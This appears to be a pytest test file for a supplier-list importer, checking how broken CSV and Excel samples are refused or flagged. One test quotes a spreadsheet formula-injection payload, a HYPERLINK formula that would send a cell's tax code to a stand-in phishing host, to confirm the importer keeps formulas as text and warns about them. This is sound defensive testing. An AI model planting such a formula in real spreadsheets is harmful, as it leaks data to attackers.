"""The six broken sample files and what a good importer answers."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from matchmaker.errors import FileRefused
from matchmaker.intake import Reading, read_suppliers

POSITIONS = {
    "1": "name",
    "2": "tax_code",
    "3": "address",
    "4": "phone",
    "5": "founded_year",
    "6": "employees",
    "7": "products",
    "8": "processes",
    "9": "materials",
    "10": "certificates",
    "11": "capacity",
    "12": "description",
}


@pytest.fixture(scope="module")
def read_bad(sample: Path) -> Callable[..., Reading]:
    def read(name: str, **options: object) -> Reading:
        return read_suppliers((sample / "bad" / name).read_bytes(), name, **options)  # type: ignore[arg-type]

    return read


def test_a_wrong_encoding_is_refused_before_a_name_is_garbled(read_bad: Callable[..., Reading]) -> None:
    with pytest.raises(FileRefused) as refused:
        read_bad("01-wrong-encoding.csv")
    assert refused.value.code == "wrong-encoding"
    assert "UTF-8" in refused.value.message
    assert "Windows-1258" in refused.value.message
    assert "--encoding windows-1258" in refused.value.message


def test_the_named_encoding_reads_it(read_bad: Callable[..., Reading]) -> None:
    reading = read_bad("01-wrong-encoding.csv", encoding="windows-1258")
    assert len(reading.suppliers) == 12
    assert reading.suppliers[0].form["name"] == "Công ty TNHH Cơ khí chính xác Vạn Kiều"
    assert reading.suppliers[1].form["address"] == "Đường B2, KCN Phố Nối A, Yên Mỹ, Hưng Yên"


def test_a_cut_off_workbook_is_refused(read_bad: Callable[..., Reading]) -> None:
    with pytest.raises(FileRefused) as refused:
        read_bad("02-truncated.xlsx")
    assert refused.value.code == "damaged-workbook"
    assert "upload it again" in refused.value.message


def test_a_missing_header_is_asked_for_and_no_firm_swallowed(read_bad: Callable[..., Reading]) -> None:
    with pytest.raises(FileRefused) as refused:
        read_bad("03-header-missing.csv")
    assert refused.value.code == "no-header"
    assert "Công ty TNHH Cơ khí chính xác Vạn Kiều" in refused.value.message
    assert "mapping" in refused.value.message


def test_a_mapping_by_position_reads_it(read_bad: Callable[..., Reading]) -> None:
    reading = read_bad("03-header-missing.csv", mapping=POSITIONS)
    assert len(reading.suppliers) == 12
    assert reading.suppliers[0].form["name"] == "Công ty TNHH Cơ khí chính xác Vạn Kiều"
    assert reading.suppliers[0].form["employees"] == 85
    assert reading.problems == ()


def test_a_short_row_is_left_out_and_named(read_bad: Callable[..., Reading]) -> None:
    reading = read_bad("04-short-row-17.csv")
    (problem,) = reading.problems
    assert (problem.severity, problem.code, problem.row) == ("error", "short-row", 17)
    assert "Line 17" in problem.message
    assert "11 cells" in problem.message
    assert "has 12" in problem.message
    assert "Minh Vũ Cường" in problem.found


def test_the_other_rows_are_read_as_if_it_were_not_there(sample: Path, read_bad: Callable[..., Reading]) -> None:
    lines = (sample / "bad" / "04-short-row-17.csv").read_bytes().splitlines(keepends=True)
    whole = read_suppliers(b"".join(lines[:16] + lines[17:]), "04-short-row-17.csv")
    assert len(whole.suppliers) == 21
    assert [one.form for one in read_bad("04-short-row-17.csv").suppliers] == [one.form for one in whole.suppliers]


def test_formulas_stay_text_and_are_warned_of(read_bad: Callable[..., Reading]) -> None:
    reading = read_bad("05-formula-injection.csv")
    found = {(one.row, one.found) for one in reading.problems if one.code == "formula-like"}
    assert found == {
        (3, '=HYPERLINK("http://phish.example/?d="&B2,"Xem chứng chỉ")'),
        (5, "=1+1"),
        (6, "@SUM(A1:A9)"),
        (8, "=ISO(9001)"),
    }
    by_row = {one.row: one.form for one in reading.suppliers}
    assert by_row[3]["description"] == '=HYPERLINK("http://phish.example/?d="&B2,"Xem chứng chỉ")'
    assert by_row[5]["name"] == "=1+1"
    assert len(by_row) == 8


def test_signs_in_front_of_telephones_and_tolerances_are_no_formulas(read_bad: Callable[..., Reading]) -> None:
    by_row = {one.row: one.form for one in read_bad("05-formula-injection.csv").suppliers}
    assert by_row[4]["contacts"][0]["phone"] == "02213000027"
    assert by_row[9]["contacts"][0]["phone"] == "0243000031"
    assert by_row[7]["tolerance_mm"] == 0.05
    assert "processes" not in by_row[7]


def test_shared_tax_codes_are_a_conflict_or_a_likely_duplicate(read_bad: Callable[..., Reading]) -> None:
    """Data rows 2 and 5 are two firms with one code, 3 and 10 one firm in two spellings; the header is row 1."""
    reading = read_bad("06-duplicate-mst.csv")
    conflict, duplicate = reading.problems
    assert (conflict.code, conflict.row, conflict.found) == ("tax-code-conflict", 6, "0999301895")
    assert "Thanh Lũng” (row 3)" in conflict.message
    assert (duplicate.code, duplicate.row, duplicate.found) == ("duplicate-likely", 11, "2599301968")
    assert "Hạ Mão” (row 4)" in duplicate.message
    assert {conflict.severity, duplicate.severity} == {"warning"}
    assert len(reading.suppliers) == 10
